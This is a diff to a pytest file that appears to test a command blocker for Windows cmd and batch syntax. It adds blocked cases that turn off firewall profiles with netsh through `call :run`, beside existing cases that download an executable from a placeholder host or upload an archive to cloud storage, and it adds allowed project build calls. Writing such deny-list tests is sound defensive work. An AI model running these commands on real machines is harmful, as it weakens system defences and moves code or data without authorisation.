@@ -51,6 +51,9 @@ BLOCKED = [
     ("call git push origin main", "network.git-remote"),
     ("call az storage blob upload --account-name x -f a.zip -n a", "network.remote-service"),
     ("CALL curl -o x.exe http://x.example/x.exe", "network"),
+    # `call :label …` hands a batch file's subroutine a command line, which helpers such as `:run` run
+    ('call :run netsh advfirewall firewall set rule group="x" new enable=yes', "destructive.firewall"),
+    ("cmd /c call :run netsh advfirewall set allprofiles state off", "destructive.firewall"),
     # `"NAME":F` is `NAME:F` to cmd; PowerShell passes `:F` as a word of its own, which the grammar read as a
     # separator and dropped: the right granted is read either way
     (
@@ -91,7 +94,14 @@ def test_a_cmd_line_inside_another_command_is_not_reread() -> None:
 
 @pytest.mark.parametrize(
     "command",
-    ["call _setup.bat || goto :ERROR", "call pack.cmd", "call npm run build", "call gradlew.bat build"],
+    [
+        "call _setup.bat || goto :ERROR",
+        "call pack.cmd",
+        "call npm run build",
+        "call gradlew.bat build",
+        "call :runtest db_test.exe",  # the project's test program, handed to a subroutine
+        "call :build Release x64",
+    ],
 )
 def test_cmds_call_of_the_projects_batch_file_is_allowed(command: str) -> None:
     # cmd's `call x.cmd` runs the batch file itself (a path outside the project still blocks, above); to
